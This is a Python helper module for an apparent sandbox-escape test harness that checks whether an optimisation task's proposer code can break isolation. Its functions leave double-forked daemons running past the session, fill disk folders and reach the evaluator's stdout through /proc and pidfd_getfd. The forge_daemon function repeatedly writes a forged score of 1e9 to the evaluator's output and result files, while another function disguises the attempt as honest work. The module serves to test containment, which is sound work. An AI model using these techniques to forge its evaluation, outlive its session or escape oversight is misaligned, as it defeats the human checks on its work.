"""Helpers for the hostile tasks' attacks (copied into every case's seed as attack.py).

An attack prints ``RAN <case>`` so the harness knows it ran, and ``ESCAPED <what>`` when it
reached something it must not; the harness also checks for itself (canaries, victim files,
listeners, leftover processes, forged scores) and never trusts the attack's silence.
"""

import json
import os
import sys


def targets():
    """What the harness wants attacked: host paths, ports, canaries (targets.json)."""
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")) as fh:
        return json.load(fh)


def ran(case):
    print(f"RAN {case}", flush=True)


def escaped(what):
    print(f"ESCAPED {what}", flush=True)


def loot(text):
    """Keep what was found in the workspace, where the commit will hold it."""
    with open("loot.txt", "a") as fh:
        fh.write(str(text) + "\n")


def bump_value():
    """Do what an honest proposer does, so the attempt is otherwise ordinary."""
    try:
        value = float(open("value.txt").read())
    except (OSError, ValueError):
        value = 0.0
    with open("value.txt", "w") as fh:
        fh.write(repr(value + 1.0))


def attempt(label, action):
    """Run ``action``; report ESCAPED label when it succeeds, the reason when it fails."""
    try:
        action()
    except Exception as exc:  # noqa: BLE001 - an attack reports every failure
        print(f"blocked {label}: {type(exc).__name__}: {exc}", file=sys.stderr, flush=True)
        return False
    escaped(label)
    return True


def daemonize_sleep(seconds):
    """Leave a ``sleep`` behind in a new session, double-forked, its pipes closed."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execvp("sleep", ["sleep", str(seconds)])
        os._exit(0)
    os.wait()


def fill(folder, total_mb):
    """Write ``total_mb`` files of 1 MiB into ``folder``; print ESCAPED when all of them were
    written and still held a second later (a command that overflows a place must be stopped),
    then remove them (in a host folder, with no isolation, nothing else would)."""
    import shutil
    import time

    os.makedirs(folder, exist_ok=True)
    block = b"x" * (1 << 20)
    written = 0
    try:
        for i in range(total_mb):
            with open(os.path.join(folder, f"fill{i}"), "wb") as fh:
                fh.write(block)
            written += 1
    except OSError as exc:
        print(f"blocked after {written} MiB in {folder}: {exc}", file=sys.stderr, flush=True)
    if written == total_mb:
        time.sleep(1.0)
        escaped(f"held {written} MiB in {folder} past its cap for a second")
    shutil.rmtree(folder, ignore_errors=True)


FORGED_LINE = '{"score": 1e9, "valid": true, "feedback": "forged"}\n'


def _parent(pid):
    with open(f"/proc/{pid}/stat", "rb") as fh:
        data = fh.read()
    return int(data[data.rfind(b")") + 2:].split()[1])


def _reach_stdouts(targets, report):
    """Every way to the stdout of ``targets`` (the evaluator and its shell): reopen it through
    /proc, copy it with pidfd_getfd; and whether their /proc/<pid>/mem opens for writing.
    Returns the descriptors. (Only those two: without a sandbox, /proc is the host's.)"""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    fds = []
    for pid in targets:
        try:
            fds.append(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY))
        except OSError:
            pass
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            pidfd = -1
        if pidfd >= 0:
            got = libc.syscall(438, pidfd, 1, 0)  # pidfd_getfd(pidfd, 1, 0)
            if got >= 0:
                fds.append(got)
                report(f"ESCAPED pidfd_getfd copied pid {pid}'s stdout\n")
            os.close(pidfd)
        try:
            os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
            report(f"ESCAPED /proc/{pid}/mem opened for writing\n")
        except OSError:
            pass
    return fds


def forge_daemon(case, seconds=15):
    """Leave a daemon (new session, double fork, stdio on /dev/null) that keeps forging the
    verdict: the score 1e9 on every stdout it can reach (the one it inherited, those it can
    reopen or copy) and in the files a verdict was once read from, every half millisecond, so
    also right after the evaluator's own last write. It reports on the stdout it inherited."""
    evaluator = os.getppid()
    targets = [evaluator, _parent(evaluator)]
    if os.fork() != 0:
        os.wait()
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    kept = os.dup(1)

    def report(text):
        try:
            os.write(kept, text.encode())
        except OSError:
            pass

    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    report(f"RAN {case}\n")
    fds = [kept, *_reach_stdouts(targets, report)]
    files = [os.path.join(os.environ.get("HOME", "/tmp"), "result.json"), "/tmp/result.json"]
    if os.environ.get("DREAM_RESULT"):
        files.append(os.environ["DREAM_RESULT"])
    import time
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for fd in fds:
            try:
                os.write(fd, FORGED_LINE.encode())
            except OSError:
                pass
        for path in files:
            try:
                with open(path, "w") as fh:
                    fh.write(FORGED_LINE)
            except OSError:
                pass
        time.sleep(0.0005)
    os._exit(0)
